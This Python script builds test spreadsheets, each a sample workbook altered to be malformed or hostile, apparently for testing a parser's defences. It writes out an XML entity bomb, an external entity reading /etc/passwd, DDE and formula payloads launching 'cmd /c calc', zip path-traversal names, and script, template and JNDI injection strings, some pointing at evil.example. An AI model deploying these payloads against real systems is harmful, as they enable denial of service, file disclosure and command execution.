"""Makes the workbooks that are not as Excel writes them, or mean harm. Run it to make them all again.

Each is the example of the second quarter with one thing changed; its docstring says what, and stands in README.md too.
"""

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import openpyxl

HERE = Path(__file__).parent
BASE = (HERE.parent.parent / "data" / "asb-2016-17-q2.xlsx").read_bytes()
_ACTIONS = "xl/worksheets/sheet2.xml"
_RELATED = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % (n + 1, *[n] * 10)
        for n in range(ord("a"), ord("h"))
    )
    + b"]>"
)

Parts = dict[str, bytes]


def parts(content: bytes = BASE) -> Parts:
    """The parts of a workbook by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(listed: Mapping[str, bytes]) -> bytes:
    """A workbook of these parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in listed.items():
            package.writestr(
                zipfile.ZipInfo(name, (2017, 1, 31, 0, 0, 0)), content, zipfile.ZIP_DEFLATED
            )
    return target.getvalue()


def _with(name: str, change: Callable[[bytes], bytes]) -> bytes:
    listed = parts()
    return packed(listed | {name: change(listed[name])})


def _related(kind: bytes, target: bytes, content: bytes, element: bytes) -> bytes:
    listed, rels, book = parts(), "xl/_rels/workbook.xml.rels", "xl/workbook.xml"
    entry = b'<Relationship Id="rId99" Type="%s/%s" Target="%s"/>' % (_RELATED, kind, target)
    listed[rels] = listed[rels].replace(b"</Relationships>", entry + b"</Relationships>")
    listed[book] = listed[book].replace(
        b"</workbook>",
        element.replace(b"R:ID", b'xmlns:r="%s" r:id="rId99"' % _RELATED) + b"</workbook>",
    )
    return packed(listed | {f"xl/{target.decode()}": content})


def backslashes() -> bytes:
    """Part names with backslashes, as some programs on Windows write them."""
    return packed(
        {
            name.replace("/", "\\") if name.startswith("xl") else name: content
            for name, content in parts().items()
        }
    )


def other_case() -> bytes:
    """A sheet whose part is called Sheet2.XML where everything else says sheet2.xml."""
    return packed(
        {
            name.replace("sheet2.xml", "Sheet2.XML") if name == _ACTIONS else name: c
            for name, c in parts().items()
        }
    )


def content_types() -> bytes:
    """The list of content types under a name in small letters."""
    return packed(
        {
            name.replace("Content_Types", "content_types"): content
            for name, content in parts().items()
        }
    )


def strict() -> bytes:
    """Strict Open XML, Excel's other kind of .xlsx."""
    names = (
        (
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        ),
    )
    names += ((_RELATED, b"http://purl.oclc.org/ooxml/officeDocument/relationships"),)
    listed = parts()
    for name, content in listed.items():
        if not name.startswith("["):
            for known, other in names:
                content = content.replace(known, other)  # noqa: PLW2901 - one after the other
            listed[name] = content
    return packed(listed)


def styles_missing() -> bytes:
    """No style sheet at all."""
    return packed({name: content for name, content in parts().items() if name != "xl/styles.xml"})


def styles_cut() -> bytes:
    """A style sheet that is cut short."""
    return _with("xl/styles.xml", lambda content: content[: len(content) // 2])


def styles_few() -> bytes:
    """A style sheet with one format, and cells that ask for the fortieth."""
    return _with(
        "xl/styles.xml",
        lambda content: re.sub(
            rb"<cellXfs.*?</cellXfs>",
            b'<cellXfs count="1"><xf/></cellXfs>',
            content,
            flags=re.DOTALL,
        ),
    )


def pivot() -> bytes:
    """A pivot cache that is broken."""
    return _related(
        b"pivotCacheDefinition",
        b"pivotCache/one.xml",
        b"<pivot<",
        b'<pivotCaches><pivotCache cacheId="1" R:ID/></pivotCaches>',
    )


def linked() -> bytes:
    """A link to another workbook, whose part is broken."""
    return _related(
        b"externalLink",
        b"externalLinks/externalLink1.xml",
        b"<broken",
        b"<externalReferences><externalReference R:ID/></externalReferences>",
    )


def dde() -> bytes:
    """A link that would start a program (DDE)."""
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return _related(
        b"externalLink",
        b"externalLinks/externalLink1.xml",
        link,
        b"<externalReferences><externalReference R:ID/></externalReferences>",
    )


def drawing() -> bytes:
    """A drawing that is not there."""
    element = b'<drawing xmlns:r="%s" r:id="rId77"/></worksheet>' % _RELATED
    return _with(_ACTIONS, lambda content: content.replace(b"</worksheet>", element))


def names_broken() -> bytes:
    """Defined names of sheets and files that are not there."""
    names = b'<definedNames><definedName name="_xlnm.Print_Titles" localSheetId="77">#REF!</definedName><definedName name="x">[1]!y</definedName>'
    return _with("xl/workbook.xml", lambda content: content.replace(b"<definedNames>", names, 1))


def prefixed() -> bytes:
    """Every element under a prefix, as some programs write."""
    listed = parts()
    for name in (_ACTIONS, "xl/workbook.xml"):
        content = re.sub(rb"<(/?)([a-zA-Z])", rb"<\1x:\2", listed[name])
        listed[name] = content.replace(
            b'xmlns="http://schemas', b'xmlns:x="http://schemas'
        ).replace(b"<x:?xml", b"<?xml")
    return packed(listed)


def macros() -> bytes:
    """Macros, which are never run."""
    return packed(parts() | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"0" * 100})


def properties_bomb() -> bytes:
    """Entities that grow without end, in the document properties."""
    return packed(parts() | {"docProps/core.xml": _BOMB + b"<x>&h;</x>"})


def paths() -> bytes:
    """Parts whose names point outside: ../../evil.txt, /etc/evil."""
    return packed(
        parts()
        | {"../../evil.txt": b"x", "/etc/evil": b"x", "xl/worksheets/../../../evil.xml": b"x"}
    )


def entities() -> bytes:
    """Entities that grow without end, in a cell."""
    cell = b'<sheetData><row r="400"><c r="A400" t="inlineStr"><is><t>&h;</t></is></c></row>'
    return _with(
        _ACTIONS,
        lambda content: (
            _BOMB + re.sub(rb"<\?xml.*?\?>", b"", content).replace(b"<sheetData>", cell)
        ),
    )


def outside_entity() -> bytes:
    """An entity that would read a file of the computer."""
    head = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    cell = b'<sheetData><row r="400"><c r="A400" t="inlineStr"><is><t>&x;</t></is></c></row>'
    return _with(
        _ACTIONS,
        lambda content: head + re.sub(rb"<\?xml.*?\?>", b"", content).replace(b"<sheetData>", cell),
    )


def strings_missing() -> bytes:
    """The table of all words is not there."""
    words = re.compile(rb't="inlineStr"><is>.*?</is>', re.DOTALL)
    return packed(
        {
            name: words.sub(b't="s"><v>0</v>', content) if name == _ACTIONS else content
            for name, content in parts().items()
        }
    )


MENDED = (backslashes, other_case, content_types, strict, styles_missing, styles_cut, styles_few)
"""Read by a second way, with a warning."""
READ = (pivot, linked, dde, drawing, names_broken, prefixed, macros, properties_bomb, paths)
"""Read as if nothing were."""
REFUSED = (entities, outside_entity, strings_missing)
"""Refused in one sentence."""


def _changed(cells: Mapping[str, object], *, epoch: dt.datetime | None = None) -> bytes:
    """The example with other values in cells of the sheet Actions."""
    book = openpyxl.load_workbook(io.BytesIO(BASE))
    if epoch:
        book.epoch = epoch
    for place, value in cells.items():
        book["Actions"][place] = value
    target = io.BytesIO()
    book.save(target)
    return packed(parts(target.getvalue()))


WORDS = {
    "C2": "a line_x000D_\nand its return",
    "D2": "NBSP\u00a0and zero\u200bwidth and \u202eturned\u202c",
    "C3": "Gŵyl tŷ Llŷn – Łódź żółć – É À",
    "D3": "سلام، یہ اردو ہے and ﻊﺮﺑﻲ",
    "C4": "emoji 🙂 👩‍👩‍👧 and 𝒳",
    "D4": "x" * 500,
    "C5": "donâ€™t, the Councilís",
    "D5": "word " * 6553,
    "C6": "control _x0007_ and half _xD800_ characters",
}
INJECTED = {
    "C2": "{{ 7*7 }} {% raw %} {% for x in y %} {# gone #}",
    "D2": "<script>alert(1)</script><img src=file:///etc/passwd onerror=alert(2)>",
    "C3": "</w:t></w:r></w:p><w:p> ]]> &amp; <!-- x -->",
    "D3": '=HYPERLINK("http://evil.example","click")',
    "C4": "=cmd|'/c calc'!A0",
    "D4": "+1+1 @SUM(A1) -2",
    "C5": "{{ report.__class__.__mro__ }} ${jndi:ldap://evil} %s %(x)s {0}",
    "D5": "../../../etc/passwd \\\\server\\share",
}
"""Cells that mean harm. One that begins with “=” is typed as words."""


def words() -> bytes:
    """Excel's escapes, marks without width, turned text, Welsh, Polish, Urdu, emoji, a word of 500 letters, a cell of 32,765, garbled words."""
    return _changed(WORDS)


def injected() -> bytes:
    """Cells that would be code in Jinja, HTML, Word's XML, Excel or a shell."""
    book = openpyxl.load_workbook(io.BytesIO(BASE))
    for place, value in INJECTED.items():
        book["Actions"][place].value = value
        book["Actions"][place].data_type = "s"
    book["Report"]["B2"] = "../../../etc/{{ 7*7 }}"
    target = io.BytesIO()
    book.save(target)
    return packed(parts(target.getvalue()))


def days() -> bytes:
    """Days counted from 1904, as an old Mac does."""
    return _changed(
        {"E2": dt.date(2017, 3, 31), "E3": dt.date(2017, 4, 1), "E4": "31/3/17"},
        epoch=openpyxl.utils.datetime.CALENDAR_MAC_1904,
    )


def iso_days() -> bytes:
    """Days written as 2017-03-31 in the file itself, as Strict Open XML may."""
    cell = re.compile(rb'<c r="E2"([^>]*?) t="inlineStr"><is>.*?</is></c>', re.DOTALL)
    return _with(
        _ACTIONS,
        lambda content: cell.sub(rb'<c r="E2"\1 t="d"><v>2017-03-31T00:00:00</v></c>', content),
    )


OTHERS = (words, injected, days, iso_days)
FILES = {
    f"{make.__name__}.{'xlsm' if make is macros else 'xlsx'}": make
    for make in (*MENDED, *READ, *REFUSED, *OTHERS)
}

if __name__ == "__main__":
    for name, make in FILES.items():
        (HERE / name).write_bytes(make())
